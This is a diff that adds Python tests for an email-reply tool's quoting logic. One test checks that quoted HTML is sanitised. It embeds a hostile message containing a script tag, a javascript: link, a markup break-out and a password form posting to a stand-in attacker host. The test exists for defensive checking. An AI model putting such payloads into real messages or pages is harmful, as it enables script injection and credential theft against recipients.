@@ -193,3 +193,45 @@ def test_a_plain_original_is_quoted_in_an_html_reply_as_escaped_lines(ctx):
     sent = invoke("gmail_send", ctx, {"reply_to_message_id": message_id, "body": "<p>Noted.</p>", "html": True})
 
     assert "a &lt; b<br>c &amp; d</blockquote>" in sent_parts(ctx, sent["id"])[1]
+
+
+def test_a_date_beyond_the_calendar_does_not_stop_the_reply(ctx):
+    message_id = delivered(ctx, b"From: robin@partner.example\r\nTo: alex@acme.example\r\nSubject: Odd\r\n"
+                                b"Date: Fri, 31 Dec 9999 23:59:00 -1200\r\n\r\nHello\r\n")
+
+    card = review("gmail_send", ctx, {"reply_to_message_id": message_id, "body": "Hi."})
+
+    assert card.preview["quoted"] == "robin@partner.example wrote:"
+
+
+def test_the_quoted_html_cannot_close_the_quote_early_or_carry_scripts_and_forms(ctx):
+    hostile = ('<p>Hi</p></blockquote></div><script>steal()</script><form action="https://evil.example">'
+               '<input name="password"></form><a href="javascript:steal()">x</a>')
+    original = ("From: robin@partner.example\r\nTo: alex@acme.example\r\nSubject: Hi\r\nMIME-Version: 1.0\r\n"
+                "Content-Type: text/html; charset=utf-8\r\n\r\n" + hostile + "\r\n").encode()
+    message_id = delivered(ctx, original)
+
+    sent = invoke("gmail_send", ctx, {"reply_to_message_id": message_id, "body": "<p>No.</p>", "html": True})
+    markup = sent_parts(ctx, sent["id"])[1]
+
+    quote = markup[markup.index('<blockquote class="gmail_quote"'):]
+    assert quote.count("</blockquote>") == 1 and quote.rstrip().endswith("</blockquote></div>")
+    assert "<script" not in markup and "steal()" not in markup and "<form" not in markup and "<input" not in markup
+
+
+def test_the_quote_is_the_mails_own_text_not_that_of_an_email_attached_to_it():
+    from app.tools.mail_mime import b64url
+    from app.tools.mail_quote import quote_of
+
+    def leaf(mime_type, text):
+        return {"mimeType": mime_type, "filename": "", "headers": [], "body": {"data": b64url(text.encode())}}
+
+    # An attached email whose parts Gmail lists inline, without an attachment id of its own.
+    attached = {"mimeType": "message/rfc822", "filename": "", "headers": [], "body": {},
+                "parts": [leaf("text/html", "<p>Attached words</p>")]}
+    payload = {"mimeType": "multipart/mixed", "headers": [], "body": {},
+               "parts": [leaf("text/plain", "Robin's own words"), attached]}
+
+    quote = quote_of(payload, {"from": "robin@partner.example"}, "UTC")
+
+    assert quote.text == "Robin's own words" and quote.markup == ""
